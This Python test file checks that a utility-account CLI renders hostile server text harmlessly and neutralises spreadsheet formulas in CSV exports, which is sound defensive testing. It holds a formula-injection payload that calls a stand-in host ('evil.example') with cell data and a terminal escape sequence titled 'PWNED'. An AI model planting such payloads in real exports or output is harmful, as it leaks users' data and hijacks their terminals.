"""What a hostile server (or whatever wrote its store) sends never steers the terminal:
every string it holds carries terminal control sequences, and the commands' tables, lines,
messages and JSON show them as visible stand-ins or JSON escapes. And what a customer
types reaches a spreadsheet through --csv as text, never as a formula."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from ibok_tui.cli import main
from ibok_tui.commands.exits import Exit
from tests.support.accounts import PASSWORDS
from tests.support.hostile import RAW, SHOWN, make_hostile
from tests.support.http_server import ServerProcess
from tests.ui.console_support import MemoryKeyring

from .inprocess import ring

__all__ = ["ring"]


@pytest.fixture(scope="module")
def hostile(template_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    db = tmp_path_factory.mktemp("hostile") / "ibok.sqlite"
    shutil.copyfile(template_db, db)
    make_hostile(db)
    with ServerProcess(db) as process:
        yield process


@pytest.fixture
def where(
    hostile: ServerProcess, ring: MemoryKeyring, monkeypatch: pytest.MonkeyPatch
) -> list[str]:
    """Signed in as 100001 of the hostile server (the password in the environment)."""
    monkeypatch.setenv("IBOK_PASSWORD", PASSWORDS["100001"])
    return ["--server", hostile.url, "--customer", "100001"]


@pytest.mark.parametrize(
    "args",
    [
        ["dashboard"],
        ["meters"],
        ["readings"],
        ["requests"],
        ["notices"],
        ["pay"],
        ["status"],
        ["invoices"],
        ["requests", "--json"],
        ["notices", "--json"],
        ["dashboard", "--json"],
    ],
    ids=lambda args: "-".join(args),
)
def test_hostile_text_is_shown_never_obeyed(
    args: list[str], where: list[str], capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    status = main([*args, *where])
    out, err = capsysbinary.readouterr()
    text = (out + err).decode()
    assert status in (Exit.OK, Exit.ATTENTION), text
    for raw in RAW:
        assert raw not in text, (raw, text[:400])
    if "--json" in args:
        json.loads(out)  # the control characters escaped inside one JSON document
        assert "\\u001b]0;PWNED" in out.decode()
    elif args[0] not in ("invoices", "status", "pay"):  # no hostile column in what they show
        assert SHOWN in text


def test_what_a_customer_typed_reaches_a_spreadsheet_as_text(
    where: list[str], tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    body = tmp_path / "body.txt"
    body.write_text('=HYPERLINK("http://evil.example/?"&A1,"Kliknij")\n', encoding="utf-8")
    subject = '=HYPERLINK("http://evil.example")'
    new = ["request", "new", "--category", "other", "--subject", subject]
    created = main([*new, "--body-file", str(body), *where])
    assert created == Exit.OK, capsysbinary.readouterr().err
    capsysbinary.readouterr()
    assert main(["requests", "--csv", *where]) == Exit.OK
    out = capsysbinary.readouterr().out
    assert out.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Polish letters
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig")), delimiter=";"))
    subjects = [row[2] for row in rows[1:]]
    assert "'" + subject in subjects and subject not in subjects


def test_settlements_csv_amounts_are_numbers_with_a_decimal_comma(
    where: list[str], capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["settlements", "--json", *where]) == Exit.OK
    document = json.loads(capsysbinary.readouterr().out)
    assert main(["settlements", "--csv", *where]) == Exit.OK
    rows = list(
        csv.reader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0][4] == "Winien [zł]"
    owed = [row[4] for row in rows[1:]]
    assert owed == [f"{r['owed'] // 100},{r['owed'] % 100:02d}" for r in document["rows"]]
